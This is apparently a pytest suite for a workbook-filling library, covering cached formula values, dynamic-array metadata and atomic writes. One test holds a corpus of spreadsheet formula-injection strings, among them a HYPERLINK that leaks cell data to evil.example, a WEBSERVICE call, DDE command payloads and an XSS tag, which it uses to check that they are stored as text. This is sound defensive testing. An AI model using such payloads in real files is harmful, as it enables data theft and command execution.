"""The fast fill (``write.fill_file``): cached values, text safety, dynamic arrays, atomic writes.

- Every formula cell of a filled workbook stores a value, and it equals what the Python functions compute
  on the saved workbook (read back with openpyxl, evaluated by ``WorkbookEvaluator``).
- ``kpi demo`` fills every team: each workbook opens with numbers on its KPI sheet before any recalculation
  (openpyxl ``data_only`` and python-calamine read them).
- CRM text that looks like a formula lands as text (the injection corpus), read back with openpyxl and
  python-calamine; the data reads back as given.
- The fast path writes what the openpyxl path (``fill.fill``) writes.
- ``cm="1"`` markers and ``xl/metadata.xml`` of a template survive; a failed write leaves nothing behind.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import re
import zipfile
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from udfs.coerce import serial_from_datetime
from workbook_templates import builder, sample_data, spec
from workbook_templates.fill import cached_values, commands, refresh, write
from workbook_templates.fill.cached_values import sheet_parts
from workbook_templates.formulas import ExcelError, WorkbookEvaluator

INJECTION_CORPUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
    '=WEBSERVICE("http://evil.example")',
    "  =leading spaces",
    "<script>alert('x')</script> & more",
    'DDE("cmd";"/C calc";"!A0")A0',
]


@cache
def frames() -> dict[str, pd.DataFrame]:
    return sample_data.generate()


def comparable(value: Any) -> Any:
    """A cell value as the evaluator gives it: dates as serials, errors as their code."""
    if isinstance(value, dt.datetime | dt.date):
        return serial_from_datetime(value)
    if isinstance(value, ExcelError):
        return value.code
    if isinstance(value, int) and not isinstance(value, bool):
        return float(value)
    return value


def same(a: Any, b: Any) -> bool:
    a, b = comparable(a), comparable(b)
    if isinstance(a, float) and isinstance(b, float):
        return math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-9)
    return a == b


@pytest.fixture(scope="module")
def filled_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("filled")


def filled(team: str, directory: Path) -> Path:
    path = directory / f"{team}.xlsx"
    if not path.exists():
        write.fill_file(builder.template_path(team), frames(), path)
    return path


@pytest.mark.slow
@pytest.mark.parametrize("team", ["sales", "support", "customer_success"])
def test_cached_values_equal_the_python_functions(team: str, filled_dir: Path) -> None:
    path = filled(team, filled_dir)
    python = WorkbookEvaluator(openpyxl.load_workbook(path)).all_formula_values()
    cached = openpyxl.load_workbook(path, data_only=True)
    assert python, "no formula cells"
    differ = [
        f"{sheet}!{cell}: Python {value!r}, cached {cached[sheet][cell].value!r}"
        for (sheet, cell), value in python.items()
        if not same(value, cached[sheet][cell].value)
    ]
    assert not differ, f"{len(differ)} of {len(python)} cells differ: {differ[:5]}"


def test_every_formula_cell_has_a_cached_value(filled_dir: Path) -> None:
    path = filled("sales", filled_dir)
    with zipfile.ZipFile(path) as package:
        for sheet, part in sheet_parts(package).items():
            xml = package.read(part).decode()
            empty = re.findall(r'<c r="([A-Z]+\d+)"[^>]*><f[^>]*>[^<]*</f></c>', xml)
            assert not empty, f"{sheet}: formula cells without a value: {empty[:5]}"
        assert '<calcPr calcId="191029"/>' in package.read("xl/workbook.xml").decode()


@pytest.mark.slow
def test_demo_fills_every_team_with_numbers_visible(tmp_path: Path) -> None:
    result = CliRunner().invoke(commands.app, ["demo", "--out", str(tmp_path / "demo"), "--jobs", "2"])
    assert result.exit_code == 0, result.output
    for team in spec.TEAM_ORDER:
        path = tmp_path / "demo" / f"{team}.xlsx"
        assert path.exists(), result.output
        kpis = openpyxl.load_workbook(path, data_only=True, read_only=True)["KPIs"]
        values = [row[2] for row in kpis.iter_rows(min_row=builder.FIRST_ROW, values_only=True) if row[0]]
        assert values and all(isinstance(v, int | float) for v in values), f"{team}: {values}"
        rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("KPIs").to_python()
        calamine_values = [row[2] for row in rows[builder.FIRST_ROW - 1 :] if row[0]]
        assert len(calamine_values) == len(values)
        assert all(isinstance(v, float) for v in calamine_values), f"{team}: {calamine_values}"
    assert "Workbooks" in result.output and "KPI cells" in result.output


def injected_frames() -> dict[str, pd.DataFrame]:
    data = dict(frames())
    deals = data["Deals"].head(len(INJECTION_CORPUS)).copy()
    deals["Account"] = INJECTION_CORPUS
    deals["SdrOwner"] = list(reversed(INJECTION_CORPUS))
    data["Deals"] = deals
    return data


@pytest.mark.parametrize("path_kind", ["fill", "refresh"])
def test_injection_corpus_lands_as_text(path_kind: str, tmp_path: Path) -> None:
    """``kpi fill`` writes the rows itself; ``kpi refresh`` through openpyxl and ``cells.write_value``."""
    path = tmp_path / "sales.xlsx"
    if path_kind == "fill":
        write.fill_file(builder.template_path("sales"), injected_frames(), path)
    else:
        write.fill_file(builder.template_path("sales"), {"Deals": frames()["Deals"].head(3)}, path)
        refresh.refresh(path, {"Deals": injected_frames()["Deals"]})
    ws = openpyxl.load_workbook(path)["Deals"]
    headers = [c.value for c in ws[1]]
    for column in ("Account", "SdrOwner"):
        index = headers.index(column) + 1
        cells = [ws.cell(row, index) for row in range(2, len(INJECTION_CORPUS) + 2)]
        expected = INJECTION_CORPUS if column == "Account" else list(reversed(INJECTION_CORPUS))
        assert [c.value for c in cells] == expected
        assert all(c.data_type == "s" for c in cells)
        assert all(c.quotePrefix for c, text in zip(cells, expected, strict=True) if text[0] in "=+-@\t\r")
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Deals").to_python()
    account = rows[0].index("Account")
    assert [row[account] for row in rows[1 : len(INJECTION_CORPUS) + 1]] == INJECTION_CORPUS
    with zipfile.ZipFile(path) as package:
        deals_xml = package.read(sheet_parts(package)["Deals"]).decode()
    assert "<f>" not in deals_xml and "<f " not in deals_xml


def test_data_reads_back_as_given(filled_dir: Path) -> None:
    path = filled("sales", filled_dir)
    deals = frames()["Deals"]
    back = pd.read_excel(path, sheet_name="Deals", engine="calamine")
    assert list(back.columns) == list(deals.columns) and len(back) == len(deals)
    for column in ("DealId", "Owner", "Stage", "Amount", "ContractMonths", "PresalesInvolved"):
        assert back[column].tolist() == deals[column].tolist(), column
    for column in ("Created", "CloseDate"):
        assert pd.to_datetime(back[column]).tolist() == deals[column].tolist(), column
    ws = openpyxl.load_workbook(path)["Deals"]
    assert ws.tables["Deals"].ref == f"A1:AA{len(deals) + 1}"
    assert ws.tables["Deals"].autoFilter.ref == ws.tables["Deals"].ref
    created = [c.value for c in ws[1]].index("Created") + 1
    assert ws.cell(2, created).number_format == "yyyy-mm-dd"


def test_fast_path_writes_what_the_openpyxl_path_writes(tmp_path: Path) -> None:
    data = {name: frame.head(300) for name, frame in frames().items()}
    fast, slow = tmp_path / "fast.xlsx", tmp_path / "slow.xlsx"
    write.fill_file(builder.template_path("sales"), data, fast)
    workbook = write.load_template(builder.template_path("sales"))
    write.fill(workbook, data)
    workbook.save(slow)
    a, b = openpyxl.load_workbook(fast), openpyxl.load_workbook(slow)
    assert a.sheetnames == b.sheetnames
    for ws in b.worksheets:
        other = a[ws.title]
        assert dict(ws.tables.items()) == dict(other.tables.items())
        for row in ws.iter_rows():
            for cell in row:
                mine = other[cell.coordinate]
                assert same(mine.value, cell.value), f"{ws.title}!{cell.coordinate}: {mine.value!r} != {cell.value!r}"


@pytest.mark.slow
def test_period_and_skipped_rows(tmp_path: Path) -> None:
    from workbook_templates.fill.sources import BadRow

    path = tmp_path / "sales.xlsx"
    skipped = [BadRow("deals.csv", 7, "Deals", "Amount", "=1+1", "not a number")]
    write.fill_file(
        builder.template_path("sales"),
        frames(),
        path,
        period_range=(dt.date(2025, 1, 1), dt.date(2025, 3, 31)),
        skipped=skipped,
    )
    workbook = openpyxl.load_workbook(path)
    assert write.period(workbook) == (dt.date(2025, 1, 1), dt.date(2025, 3, 31))
    sheet = workbook[write.SKIPPED_SHEET]
    assert [c.value for c in sheet[2]][:6] == ["deals.csv", 7, "Deals", "Amount", "=1+1", "not a number"]
    assert sheet["E2"].data_type == "s"


# ------------------------------------------------------------------------------------ dynamic arrays

METADATA = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<metadata xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:xda="http://schemas.microsoft.com/office/spreadsheetml/2017/dynamicarray">'
    '<metadataTypes count="1"><metadataType name="XLDAPR" minSupportedVersion="120000" copy="1" pasteAll="1" '
    'pasteValues="1" merge="1" splitFirst="1" rowColShift="1" clearFormats="1" clearComments="1" assign="1" '
    'coerce="1" cellMeta="1"/></metadataTypes><futureMetadata name="XLDAPR" count="1"><bk><extLst>'
    '<ext uri="{bdbb8cdc-fa1e-496e-a857-3c3f30c029c3}"><xda:dynamicArrayProperties fDynamic="1" fCollapsed="0"/>'
    '</ext></extLst></bk></futureMetadata><cellMetadata count="1"><bk><rc t="1" v="0"/></bk></cellMetadata>'
    "</metadata>"
)


def with_dynamic_array(source: Path, destination: Path, sheet: str = "KPIs", cell: str = "C5") -> Path:
    """A copy of ``source`` as Excel saves a dynamic-array formula: ``cm="1"`` on the cell, the metadata part."""
    with zipfile.ZipFile(source) as package, zipfile.ZipFile(destination, "w", zipfile.ZIP_DEFLATED) as out:
        part = sheet_parts(package)[sheet]
        for info in package.infolist():
            data = package.read(info.filename)
            if info.filename == part:
                data = re.sub(
                    rf'<c r="{cell}"([^>]*)><f>', rf'<c r="{cell}"\1 cm="1"><f t="array" ref="{cell}">', data.decode()
                ).encode()
            elif info.filename == "[Content_Types].xml":
                kind = cached_values.METADATA_CONTENT_TYPE
                override = f'<Override PartName="/xl/metadata.xml" ContentType="{kind}"/></Types>'
                data = data.replace(b"</Types>", override.encode())
            elif info.filename == "xl/_rels/workbook.xml.rels":
                rel = f'<Relationship Id="rId999" Type="{cached_values.METADATA_REL_TYPE}" Target="metadata.xml"/>'
                data = data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
            out.writestr(info, data)
        out.writestr("xl/metadata.xml", METADATA)
    return destination


def assert_dynamic_array(path: Path, sheet: str = "KPIs", cell: str = "C5") -> None:
    with zipfile.ZipFile(path) as package:
        xml = package.read(sheet_parts(package)[sheet]).decode()
        assert re.search(rf'<c r="{cell}"[^>]* cm="1"[^>]*><f t="array" ref="{cell}">', xml), "cm marker lost"
        assert package.read("xl/metadata.xml").decode() == METADATA
        assert "/xl/metadata.xml" in package.read("[Content_Types].xml").decode()
        assert 'Target="metadata.xml"' in package.read("xl/_rels/workbook.xml.rels").decode()
        assert package.read("xl/_rels/workbook.xml.rels").decode().count("sheetMetadata") == 1
    workbook = openpyxl.load_workbook(path)  # still a valid workbook
    assert workbook[sheet][cell].value is not None


@pytest.mark.slow
def test_dynamic_array_marker_survives_the_fill(tmp_path: Path) -> None:
    template = with_dynamic_array(builder.template_path("sales"), tmp_path / "template.xlsx")
    found = cached_values.read_dynamic_arrays(template)
    assert found.cells == {"KPIs": {"C5": "1"}} and found.metadata is not None
    # openpyxl alone drops both:
    saved = io.BytesIO()
    openpyxl.load_workbook(template).save(saved)
    assert not cached_values.read_dynamic_arrays(saved)
    out = tmp_path / "sales.xlsx"
    write.fill_file(template, frames(), out)
    assert_dynamic_array(out)
    value = openpyxl.load_workbook(out, data_only=True)["KPIs"]["C5"].value
    assert isinstance(value, float)


def test_a_failed_write_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: Any, **kwargs: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(cached_values, "_write_with_rows", broken)
    out = tmp_path / "sales.xlsx"
    with pytest.raises(OSError, match="disk full"):
        write.fill_file(builder.template_path("sales"), frames(), out)
    assert list(tmp_path.iterdir()) == []


def test_xml_value_kinds() -> None:
    assert cached_values.xml_value(0.25) == ("", "0.25")
    assert cached_values.xml_value(3.0) == ("", "3")
    assert cached_values.xml_value(True) == ("b", "1")
    assert cached_values.xml_value("On <track> & go") == ("str", "On &lt;track&gt; &amp; go")
    assert cached_values.xml_value(ExcelError("#DIV/0!")) == ("e", "#DIV/0!")
    assert cached_values.xml_value(None) is None


def test_a_reused_template_fills_as_a_fresh_one(tmp_path: Path) -> None:
    """fill_file keeps each template loaded and puts it back before the next fill: nothing may leak."""
    from workbook_templates.fill.sources import BadRow

    template = builder.template_path("sales")
    other = {name: frame.head(500) for name, frame in frames().items()}
    skipped = [BadRow("deals.csv", 3, "Deals", "Amount", "x", "not a number")]
    write.fill_file(
        template,
        frames(),
        tmp_path / "first.xlsx",
        skipped=skipped,
        period_range=(dt.date(2024, 1, 1), dt.date(2024, 12, 31)),
        currency="EUR",  # number formats of template cells change: they must be put back too
    )
    write.fill_file(template, other, tmp_path / "reused.xlsx")
    write._Reusable._loaded.clear()
    write.fill_file(template, other, tmp_path / "fresh.xlsx")
    with zipfile.ZipFile(tmp_path / "reused.xlsx") as reused, zipfile.ZipFile(tmp_path / "fresh.xlsx") as fresh:
        assert reused.namelist() == fresh.namelist()
        differ = [n for n in fresh.namelist() if n != "docProps/core.xml" and reused.read(n) != fresh.read(n)]
    assert not differ
